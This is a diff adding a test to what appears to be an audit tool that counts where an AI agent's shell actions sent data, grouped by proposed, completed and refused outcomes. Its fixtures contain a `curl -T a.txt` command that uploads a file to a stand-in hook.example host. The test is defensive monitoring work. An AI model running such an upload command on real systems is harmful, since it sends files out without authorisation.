@@ -111,6 +111,38 @@ describe('what left', () => {
     expect(await rows({ contains: 'else.example' })).toEqual([['carl@else.example', 'mailer', [1, 0, 0]]]);
   });
 
+  it('has where a call was directed that its proposal alone tells, as hooks do, once it was carried out or refused', async () => {
+    const moment = (phase: string, id: string, members: JsonObject): JsonObject => ({
+      profile: 'countersign.agent-action/1',
+      phase,
+      action_id: id,
+      actor: { identity_source: 'asserted' },
+      tool: { name: 'Bash', type: 'shell' },
+      ...members,
+    });
+    const [done, denied, open] = [randomUUID(), randomUUID(), randomUUID()];
+    const proposed = (id: string, host: string): JsonObject =>
+      moment('proposed', id, { input: { value: { command: `curl -T a.txt https://${host}.hook.example/` } } });
+    const payloads = [
+      proposed(done, 'done'),
+      moment('completed', done, { outcome: { status: 'ok' }, output: { value: 'sent' } }),
+      proposed(denied, 'denied'),
+      moment('refused', denied, { outcome: { status: 'denied' } }),
+      proposed(open, 'open'),
+    ];
+    for (const payload of payloads) await client.ok('submitOperation', { body: ops.next({ payload }) });
+    await until(
+      'all of them to be read',
+      async () => (await client.ok('whatLeft', { body: {} })).coverage.pending === 0,
+    );
+    const { data } = await client.ok('whatLeft', { body: { contains: 'hook.example' } });
+    const counts = data.map(({ destination, sent, asked, refused }) => [destination, sent, asked, refused]);
+    expect(counts).toEqual([
+      ['denied.hook.example', 0, 0, 1],
+      ['done.hook.example', 1, 0, 0],
+    ]);
+  });
+
   it('takes a domain with letters beyond ASCII and the labels that DNS has for it as one', async () => {
     const get = (url: string): JsonObject => ({ tool: 'http', arguments: { method: 'GET', url }, result: 'ok' });
     const mail = (to: string): JsonObject => ({ tool: 'send_email', arguments: { to, body: 'a' }, result: 'sent' });
